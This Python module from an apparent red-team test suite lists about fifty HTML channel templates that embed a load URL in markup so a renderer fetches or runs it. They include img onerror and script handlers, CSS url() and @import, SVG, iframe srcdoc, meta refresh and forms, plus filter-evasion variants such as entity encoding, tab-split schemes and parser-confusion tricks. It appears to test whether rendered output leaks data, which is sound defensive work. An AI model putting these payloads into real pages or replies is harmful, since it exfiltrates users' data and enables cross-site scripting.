"""Channels of HTML: everything that fetches, navigates or runs when a widget shows it raw."""

from collections.abc import Mapping
from typing import Final

from douane.jobs.redteam.model.channel import Channel

MARKUP: Final[Mapping[str, Channel]] = {
    "html-img": lambda load: f'<img src="{load.url}">',
    "html-img-unquoted": lambda load: f"<img src={load.url}>",
    "html-img-single": lambda load: f"<img alt='' src='{load.query}'>",
    "html-img-upper": lambda load: f'<IMG SRC="{load.url}">',
    "html-img-slash": lambda load: f'<img/src="{load.url}"/>',
    "html-img-no-scheme": lambda load: f'<img src="//{load.path}">',
    "html-img-tab": lambda load: f'<img src="ht\ttps:\n//{load.path}">',
    "html-img-entity": lambda load: f'<img src="&#x68;ttps://{load.path}">',
    "html-img-srcset": lambda load: f'<img srcset="{load.url} 1x, {load.query} 2x">',
    "html-img-error": lambda load: f"<img src=x onerror=\"new Image().src='{load.url}'\">",
    "html-picture": lambda load: f'<picture><source srcset="{load.url}"><img src=x></picture>',
    "html-a": lambda load: f'<a href="{load.url}">details</a>',
    "html-a-ping": lambda load: f'<a href="#" ping="{load.url}">details</a>',
    "html-area": lambda load: f'<map name=m><area shape=default href="{load.url}"></map>',
    "html-iframe": lambda load: f'<iframe src="{load.url}"></iframe>',
    "html-iframe-srcdoc": lambda load: f"<iframe srcdoc=\"<img src='{load.url}'>\"></iframe>",
    "html-link-style": lambda load: f'<link rel="stylesheet" href="{load.url}">',
    "html-link-prefetch": lambda load: f'<link rel="preload" as="image" href="{load.url}">',
    "html-a-around": lambda load: f'<a href="{load.query}"><b>go</b></a>',
    "html-style-import": lambda load: f"<style>@import url('{load.url}');</style>",
    "html-style-rule": lambda load: f"<style>body{{background:url({load.url})}}</style>",
    "html-style-attribute": lambda load: f'<p style="background-image:url({load.url})">x</p>',
    "html-style-escaped": lambda load: f'<p style="background:\\75 rl({load.url})">x</p>',
    "html-style-list": lambda load: f'<ul style="list-style-image:url({load.url})"><li>x</ul>',
    "html-svg-image": lambda load: f'<svg><image href="{load.url}"/></svg>',
    "html-svg-xlink": lambda load: f'<svg><image xlink:href="{load.url}"/></svg>',
    "html-svg-style": lambda load: f"<svg><style>@import '{load.url}';</style></svg>",
    "html-svg-a": lambda load: f'<svg><a href="{load.url}"><text y="9">x</text></a></svg>',
    "html-math": lambda load: f'<math><a href="{load.url}"><mi>x</mi></a></math>',
    "html-refresh": lambda load: f'<meta http-equiv="refresh" content="0;url={load.url}">',
    "html-video-poster": lambda load: f'<video poster="{load.url}"></video>',
    "html-video-source": lambda load: f'<video preload=auto src="{load.url}"></video>',
    "html-audio": lambda load: f'<audio preload=auto src="{load.url}"></audio>',
    "html-object": lambda load: f'<object data="{load.url}"></object>',
    "html-embed": lambda load: f'<embed src="{load.url}">',
    "html-form": lambda load: f'<form action="{load.url}"><button>Send</button></form>',
    "html-formaction": lambda load: f'<form><button formaction="{load.url}">Go</button></form>',
    "html-form-field": lambda load: (
        f'<form action="https://{load.host}/{load.name}">'
        f'<input name=d value="{load.value}"><button>Send</button></form>'
    ),
    "html-input-image": lambda load: f'<input type=image src="{load.url}">',
    "html-base": lambda load: (
        f'<base href="https://{load.host}/{load.name}/"><img src="{load.value}">'
    ),
    "html-body": lambda load: f'<table background="{load.url}"><tr><td>x</table>',
    "html-script-src": lambda load: f'<script src="{load.url}"></script>',
    "html-script": lambda load: f"<script>new Image().src='{load.url}'</script>",
    "html-details": lambda load: (
        f"<details open ontoggle=\"new Image().src='{load.url}'\">x</details>"
    ),
    "html-comment-break": lambda load: f'<!--> <img src="{load.url}"> -->',
    "html-unclosed": lambda load: f'<img src="{load.url}" alt="',
    "html-nested-tag": lambda load: f'<<b>img src="x"><img src="{load.url}">',
    "html-noscript": lambda load: f'<noscript><p title="</noscript><img src={load.url}>"></p>',
    "html-in-code": lambda load: f'`<img src="{load.url}">`',
    "html-in-fence": lambda load: f'```html\n<img src="{load.url}">\n```',
}
